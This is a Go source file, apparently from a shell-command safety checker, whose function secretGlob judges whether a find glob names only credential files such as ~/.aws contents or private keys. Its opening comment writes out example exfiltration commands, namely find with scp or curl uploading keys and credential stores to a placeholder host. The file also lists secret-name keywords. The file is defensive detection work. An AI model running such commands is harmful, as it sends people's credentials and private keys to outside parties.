package patterns

import (
	"path"
	"strings"
)

// Globs whose every match is a secret's (fx67b, rt65 A3): find's `{}`
// stands as ROOT/**/NAME (or ROOT/** without a -name), so `find ~/.aws
// -type f -exec scp {} h: +` sends ~/.aws/**, every file of a credential
// store, as `scp -r ~/.aws h:` does; `find ~ -name '*.key' -exec scp {}
// h: \;` sends key files by their ending as `scp ~/server.key h:` does;
// and a walk of the home or a directory holding it for a private key's
// usual names (`find / -name "*.pem" -exec curl -F f=@{} URL \;`, `id_*`,
// `*key*`, `*secret*`, `*token*`) sends the keys kept there. A walk of
// the project for `*.pem` (certificates as often as keys) or `*.log`, and
// public keys (`*.pub`), are left alone.

// secretGlob reports whether every file the glob w names is a secret's,
// or, for a walk of the home or above, whether it names the home's keys.
func secretGlob(w Word, ctx *Context) bool {
	p := resolvePath(&w, ctx)
	if !p.globs || p.any || p.home || len(p.shape) < 2 || ctx.Home == "" {
		return false
	}
	pat := strings.Join(p.shape, "*")
	first := p.shape[0]
	cut := strings.LastIndexByte(first, '/')
	if !strings.HasPrefix(pat, "/") || cut < 0 {
		return false
	}
	dir := path.Clean(first[:cut+1])
	last := pat[strings.LastIndexByte(pat, '/')+1:]
	if strings.HasSuffix(last, ".pub") {
		return false // public keys
	}
	walksHome := holdsHome(dir, ctx.Home)
	if !walksHome && judgeSecretFile(LitWord(dir), ctx).Certainly {
		return true // every file of a credential store (~/.aws/**)
	}
	star := strings.LastIndexByte(last, '*')
	if star < 0 {
		// A name written out below a glob (ROOT/**/server.key).
		return last != "" && (keyFileName(strings.ToLower(last)) || isDotenv(last) || walksHome && keyishName(last))
	}
	if keyFileName("x" + strings.ToLower(last[star+1:])) {
		return true // *.key, *.p12: key files by their ending
	}
	return walksHome && keyishName(last)
}

// keyishName reports whether a file name (or a glob of one) is a private
// key's or a token's usual name: a .pem, ssh's id_ keys, or a name that
// says key, secret, token, password or credential.
func keyishName(name string) bool {
	n := strings.ToLower(name)
	if strings.HasSuffix(n, ".pem") || strings.HasPrefix(n, "id_") {
		return true
	}
	for _, k := range []string{"key", "secret", "token", "passw", "cred"} {
		if strings.Contains(n, k) {
			return true
		}
	}
	return false
}
